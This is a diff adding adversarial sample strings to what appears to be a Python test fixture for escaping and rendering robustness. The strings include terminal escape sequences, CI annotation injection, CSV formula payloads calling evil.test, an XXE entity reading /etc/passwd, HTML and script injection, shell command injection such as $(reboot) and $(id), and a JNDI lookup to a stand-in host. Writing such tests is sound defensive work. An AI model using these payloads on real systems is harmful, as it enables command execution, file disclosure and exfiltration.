@@ -35,6 +35,17 @@ TEXTS = {
     "bidi": "\u202eevil\u2066\u2069\u200f\u061c\u200b\u2028\u2029\ufeff\U000e0041",
     "surrogates": "\ud800\udfff\udc00 lone",
     "properties": "a = b\n\\u0000 \\\n! comment\r\ntarget = owned",
+    "title": "\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1bP+q544e\x1b\\\\\x1b[6n\x1b[?1049h",
+    "line ends": "a\x0b::error::b\x0c::notice::c\x1d::debug::d\x85::group::e\u2028::warning::f",
+    "annotation": "x,file=../a,line=1,title=owned::::error file=a,line=1,col=2::owned",
+    "CSV": '=1+1,@x,-2+3,|cmd\n=cmd|\' /C calc\'!A0;"=1"\t=WEBSERVICE("http://evil.test")',
+    "autolinks": "<http://evil.test> <a@evil.test> [^1]: x ``` $a^2$ :smile: <details open> ~~x~~",
+    "tables": "| --- | --- |\n| a | b |\r\n\t> quote\n1. one\n* * *\nTitle\n=====\n    code",
+    "CDATA": "]]>]]&gt;<![CDATA[<system-out>x</system-out>]]></testcase><testcase name='owned'/>",
+    "entities": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><?x-y?>&b;",
+    "attributes": '\' autofocus onfocus=alert(1) x=\'" style="position:fixed" `<base href=//evil>',
+    "script data": "<!--<script>-->\u2028</SCRIPT ><iframe srcdoc='<b>1</b>'><meta http-equiv=x>",
+    "shell": "'; reboot #' $(reboot) `reboot` \\' !! ${IFS} \"$(id)\" && || > /tmp/x \n reboot",
     "templates": "{{ 7 * 7 }} {% include 'x' %} ${jndi:ldap://evil.test} #{7*7} <%= 7 %>",
 }
 INVISIBLE = re.compile(
